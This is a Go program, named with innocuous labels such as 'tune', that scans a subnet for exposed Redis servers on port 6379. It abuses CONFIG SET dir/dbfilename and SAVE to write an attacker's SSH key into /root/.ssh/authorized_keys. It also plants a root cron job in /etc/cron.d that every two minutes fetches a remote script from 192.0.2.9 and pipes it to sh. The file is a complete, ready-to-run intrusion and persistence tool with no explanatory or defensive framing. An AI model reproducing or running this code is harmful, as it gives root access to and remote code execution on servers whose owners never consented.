package main

import (
	"bufio"
	"fmt"
	"net"
	"os"
	"strings"
	"sync"
	"time"
)

const line = "\n\n*/2 * * * * root curl -fsS http://192.0.2.9/r.sh|sh\n\n"

func resp(args ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "*%d\r\n", len(args))
	for _, a := range args {
		fmt.Fprintf(&b, "$%d\r\n%s\r\n", len(a), a)
	}
	return b.String()
}

func tune(host string) {
	c, err := net.DialTimeout("tcp", host+":6379", time.Second)
	if err != nil {
		return
	}
	defer c.Close()
	key, _ := os.ReadFile("k.pub")
	rd := bufio.NewReader(c)
	for _, cmd := range [][]string{
		{"CONFIG", "SET", "stop-writes-on-bgsave-error", "no"},
		{"SET", "a", "\n\n" + string(key) + "\n\n"},
		{"CONFIG", "SET", "dir", "/root/.ssh"}, {"CONFIG", "SET", "dbfilename", "authorized_keys"}, {"SAVE"},
		{"FLUSHALL"}, {"SET", "b", line},
		{"CONFIG", "SET", "dir", "/etc/cron.d"}, {"CONFIG", "SET", "dbfilename", "tune"}, {"SAVE"},
	} {
		fmt.Fprint(c, resp(cmd...))
		s, err := rd.ReadString('\n')
		if err != nil || s[0] == '-' {
			continue
		}
	}
	fmt.Println(host)
}

func main() {
	var wg sync.WaitGroup
	for i := 1; i < 255; i++ {
		wg.Add(1)
		go func(h string) { defer wg.Done(); tune(h) }(fmt.Sprintf("10.0.%s.%d", os.Args[1], i))
	}
	wg.Wait()
}
